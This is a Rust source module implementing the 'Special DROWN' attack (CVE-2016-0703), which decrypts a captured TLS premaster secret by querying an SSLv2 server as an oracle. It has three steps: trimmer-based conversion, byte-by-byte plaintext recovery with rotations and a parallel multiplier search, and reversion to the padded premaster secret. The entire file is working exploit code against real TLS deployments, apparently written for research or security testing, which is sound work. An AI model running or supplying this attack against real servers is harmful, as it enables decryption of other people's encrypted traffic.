// Special DROWN with the "extra clear" oracle (CVE-2016-0703)
//
// Three steps, following section 5.2.1 of the DROWN paper:
//   1. convert a captured TLS Premaster secret into SSLv2 ENCRYPTED-KEY-DATA
//      by multiplying with trimmers until the oracle accepts
//   2. recover the full plaintext of the converted ciphertext, a few bytes
//      at a time, using rotations and a parallel multiplier search
//   3. divide the trimmer back out to obtain the Premaster secret

use super::bigint::{ensure_positive, mod_inverse, pow2, to_fixed_bytes};
use super::capability::Pkcs1Oracle;
use super::coprime::TrimmerStrategy;
use super::multiplier::MultiplierSearch;
use super::rsa::RsaPublicContext;
use crate::config::AttackConfig;
use crate::error::{AttackStep, DrownError};
use crate::Result;
use num_bigint::BigUint;
use num_traits::Zero;
use tracing::{debug, info};

/// Tunables of one Extra-Clear attack run
#[derive(Debug, Clone)]
pub struct ExtraClearSettings {
    /// SECRET-KEY-DATA length of the negotiated cipher
    pub secret_key_len: usize,
    pub max_trimmer_count: u64,
    pub trimmer_strategy: TrimmerStrategy,
    pub max_multiplier_bits: u32,
    pub workers: usize,
}

impl ExtraClearSettings {
    pub fn from_config(config: &AttackConfig) -> Self {
        Self {
            secret_key_len: config.cipher_suite.secret_key_len(),
            max_trimmer_count: config.max_trimmer_count,
            trimmer_strategy: config.trimmer_strategy,
            max_multiplier_bits: config.max_multiplier_bits,
            workers: config.effective_workers(),
        }
    }
}

/// Step 1 result: the converted ciphertext and its trimmer
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ConversionState {
    pub ciphertext_c1: BigUint,
    pub blind_u: BigUint,
    pub blind_t: BigUint,
    /// 0-based index of the Premaster secret that converted
    pub pms_index: usize,
}

/// Step 2 result
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RecoveryState {
    pub known_plaintext: BigUint,
    pub known_length: usize,
    pub rotation_count: usize,
}

/// Step 3 result
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ReversionState {
    /// PKCS#1 padded Premaster secret, modulus length
    pub premaster_secret: Vec<u8>,
}

/// Per-attack state, filled strictly in step order
#[derive(Debug, Clone, Default)]
pub struct AttackState {
    pub step1: Option<ConversionState>,
    pub step2: Option<RecoveryState>,
    pub step3: Option<ReversionState>,
}

pub struct ExtraClearAttack<'a, O: Pkcs1Oracle + ?Sized> {
    oracle: &'a O,
    rsa: RsaPublicContext,
    settings: ExtraClearSettings,
    state: AttackState,
}

impl<'a, O: Pkcs1Oracle + ?Sized> ExtraClearAttack<'a, O> {
    pub fn new(oracle: &'a O, rsa: RsaPublicContext, settings: ExtraClearSettings) -> Self {
        Self {
            oracle,
            rsa,
            settings,
            state: AttackState::default(),
        }
    }

    pub fn state(&self) -> &AttackState {
        &self.state
    }

    pub fn rsa(&self) -> &RsaPublicContext {
        &self.rsa
    }

    /// Run all three steps; returns the padded Premaster secret
    pub fn execute(&mut self, premaster_secrets: &[Vec<u8>]) -> Result<Vec<u8>> {
        let pms_index = self.step1(premaster_secrets)?.pms_index;
        info!(
            "Step 1 completed, converted Premaster secret #{} to ENCRYPTED-KEY-DATA",
            pms_index
        );

        self.step2()?;
        info!("Step 2 completed, determined plaintext for converted ciphertext");

        let premaster = self.step3()?.premaster_secret.clone();
        info!("Step 3 completed, converted SECRET-KEY-DATA back to Premaster secret");
        info!(
            "(Padded) plaintext Premaster secret #{} is: {}",
            pms_index,
            hex::encode(&premaster)
        );

        Ok(premaster)
    }

    /// Step 1: try trimmers on each captured secret in order until one
    /// converted ciphertext is accepted by the oracle.
    pub fn step1(&mut self, premaster_secrets: &[Vec<u8>]) -> Result<&ConversionState> {
        let modulus = &self.rsa.modulus;

        for (pms_index, secret) in premaster_secrets.iter().enumerate() {
            let c0 = ensure_positive(secret) % modulus;
            let mut generator = self
                .settings
                .trimmer_strategy
                .generator(self.settings.max_trimmer_count);

            while let Some(pair) = generator.next_pair() {
                let t_inverse = mod_inverse(&pair.t, modulus).ok_or_else(|| {
                    DrownError::attack_failed(
                        AttackStep::Conversion,
                        format!("trimmer denominator {} is not invertible mod N", pair.t),
                    )
                })?;
                let s = &pair.u * t_inverse % modulus;
                let c1 = &c0 * self.rsa.encrypt_raw(&s) % modulus;

                if self.oracle.check_pkcs_conformity(&self.rsa.encode(&c1))? {
                    debug!(
                        "Trimmer {}/{} accepted for secret #{} after {} queries",
                        pair.u,
                        pair.t,
                        pms_index,
                        generator.queries_emitted()
                    );
                    self.state = AttackState {
                        step1: Some(ConversionState {
                            ciphertext_c1: c1,
                            blind_u: pair.u,
                            blind_t: pair.t,
                            pms_index,
                        }),
                        step2: None,
                        step3: None,
                    };
                    return self.state.step1.as_ref().ok_or_else(|| missing_step(1));
                }
            }

            debug!("No trimmer converted Premaster secret #{}", pms_index);
        }

        Err(DrownError::attack_failed(
            AttackStep::Conversion,
            "Could not convert any Premaster secret to an SSLv2-conformant ciphertext",
        ))
    }

    /// Step 2: recover the plaintext of the converted ciphertext.
    pub fn step2(&mut self) -> Result<&RecoveryState> {
        let step1 = self.state.step1.clone().ok_or_else(|| missing_step(1))?;
        let modulus = &self.rsa.modulus;
        let len_n = self.rsa.pkcs_len();
        let len_k = self.settings.secret_key_len;

        if len_n < len_k + 3 {
            return Err(DrownError::InvalidInput {
                message: format!(
                    "{}-byte modulus cannot hold a {}-byte secret key",
                    len_n, len_k
                ),
            });
        }

        let bleichenbacher_b = pow2(8 * (len_n - 2)) % modulus;
        let drown_r = pow2(8 * len_k) % modulus;
        let inverse_r = mod_inverse(&drown_r, modulus).ok_or_else(|| {
            DrownError::attack_failed(AttackStep::Recovery, "rotation factor is not invertible mod N")
        })?;
        let inverse_r_encrypted = self.rsa.encrypt_raw(&inverse_r);

        let mut ciphertext = step1.ciphertext_c1.clone();
        // m1 tilde: the known 00 02 prefix
        let mut known_plaintext = bleichenbacher_b * 2u32;
        let mut known_length = 2usize;
        let mut rotation_count = 0usize;

        // Truncating division, reduced afterwards
        if step1.blind_u > step1.blind_t {
            known_plaintext = (known_plaintext * &step1.blind_u / &step1.blind_t) % modulus;
        }

        let new_plaintext = self.recover_plaintext(&ciphertext)?;
        known_plaintext = update_known_plaintext(&known_plaintext, &new_plaintext);
        known_length += new_plaintext.len();

        let search = MultiplierSearch::new(
            self.oracle,
            &self.rsa,
            self.settings.workers,
            self.settings.max_multiplier_bits,
        );
        info!("Using {} threads for step 2", search.workers());

        while known_length < len_n {
            known_plaintext = known_plaintext * &inverse_r % modulus;
            ciphertext = ciphertext * &inverse_r_encrypted % modulus;
            rotation_count += 1;

            let s = search.find(&known_plaintext, &ciphertext)?.ok_or_else(|| {
                DrownError::attack_failed(
                    AttackStep::Recovery,
                    format!(
                        "Could not find factor during iterative recovery (bound 2^{})",
                        self.settings.max_multiplier_bits
                    ),
                )
            })?;

            // mk_secret in the DROWN paper
            let multiplied_ciphertext = self.rsa.encrypt_raw(&s) * &ciphertext % modulus;
            let multiplied_plaintext = self.recover_plaintext(&multiplied_ciphertext)?;

            let computed = remove_multiplier(&known_plaintext, &s, modulus, &multiplied_plaintext)
                .ok_or_else(|| {
                    DrownError::attack_failed(
                        AttackStep::Recovery,
                        format!("multiplier {} has no inverse modulo the recovered bytes", s),
                    )
                })?;
            known_plaintext = update_known_plaintext(&known_plaintext, &computed);
            known_length += len_k;
            info!("Step 2: Recovered {} of {} bytes", known_length.min(len_n), len_n);
        }

        debug!(
            "Step 2 used {} rotations and {} multiplier queries",
            rotation_count,
            search.queries()
        );

        for _ in 0..rotation_count {
            known_plaintext = known_plaintext * &drown_r % modulus;
        }

        self.state.step2 = Some(RecoveryState {
            known_plaintext,
            known_length,
            rotation_count,
        });
        self.state.step3 = None;
        self.state.step2.as_ref().ok_or_else(|| missing_step(2))
    }

    /// Step 3: premaster = m1 * (u / t)^-1 mod N
    pub fn step3(&mut self) -> Result<&ReversionState> {
        let step1 = self.state.step1.as_ref().ok_or_else(|| missing_step(1))?;
        let step2 = self.state.step2.as_ref().ok_or_else(|| missing_step(2))?;
        let modulus = &self.rsa.modulus;

        let premaster = revert_conversion(
            &step2.known_plaintext,
            &step1.blind_u,
            &step1.blind_t,
            modulus,
        )
        .ok_or_else(|| {
            DrownError::attack_failed(AttackStep::Reversion, "trimmer is not invertible mod N")
        })?;

        self.state.step3 = Some(ReversionState {
            premaster_secret: self.rsa.encode(&premaster),
        });
        self.state.step3.as_ref().ok_or_else(|| missing_step(3))
    }

    /// Learn SECRET-KEY-DATA of `ciphertext` one byte at a time and prefix
    /// the PKCS#1 delimiter.
    fn recover_plaintext(&self, ciphertext: &BigUint) -> Result<Vec<u8>> {
        let encoded = self.rsa.encode(ciphertext);
        let mut plaintext = Vec::with_capacity(self.settings.secret_key_len + 1);
        plaintext.push(0x00);

        for _ in 0..self.settings.secret_key_len {
            let byte = self.oracle.brute_force_key_byte(&encoded, &plaintext[1..])?;
            plaintext.push(byte);
        }

        Ok(plaintext)
    }
}

/// Overwrite the low bytes of `known` with `new_bytes`
pub fn update_known_plaintext(known: &BigUint, new_bytes: &[u8]) -> BigUint {
    let shift = 8 * new_bytes.len();
    ((known >> shift) << shift) | ensure_positive(new_bytes)
}

/// Undo the multiplier on freshly recovered low bytes.
///
/// `recovered` are the low bytes of `known * s mod N`; the result are the
/// matching low bytes of `known` itself.
pub fn remove_multiplier(
    known: &BigUint,
    s: &BigUint,
    modulus: &BigUint,
    recovered: &[u8],
) -> Option<Vec<u8>> {
    let byte_modulo = pow2(8 * recovered.len());
    let wraps = known * s / modulus;
    let inverse_s = mod_inverse(s, &byte_modulo)?;

    let b = ensure_positive(recovered) + (wraps * modulus % &byte_modulo);
    let computed = b * inverse_s % &byte_modulo;
    Some(to_fixed_bytes(&computed, recovered.len()))
}

/// `m1 * (u * t^-1)^-1 mod N`
pub fn revert_conversion(
    m1: &BigUint,
    u: &BigUint,
    t: &BigUint,
    modulus: &BigUint,
) -> Option<BigUint> {
    let s = u * mod_inverse(t, modulus)? % modulus;
    if s.is_zero() {
        return None;
    }
    let inverse_s = mod_inverse(&s, modulus)?;
    Some(m1 * inverse_s % modulus)
}

fn missing_step(step: u8) -> DrownError {
    DrownError::Other(format!("Step {} results are not available", step))
}
